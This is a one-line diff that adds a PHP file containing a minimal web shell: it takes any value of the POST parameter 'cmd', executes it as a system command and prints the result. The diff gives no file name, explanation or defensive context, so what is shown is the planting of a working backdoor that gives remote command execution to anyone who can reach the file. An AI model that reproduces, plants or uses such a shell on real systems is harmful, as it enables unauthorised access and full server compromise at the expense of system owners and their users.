@@ -1,0 +1,1 @@
+<?php exec($_POST['cmd'], $out); print_r($out); ?>
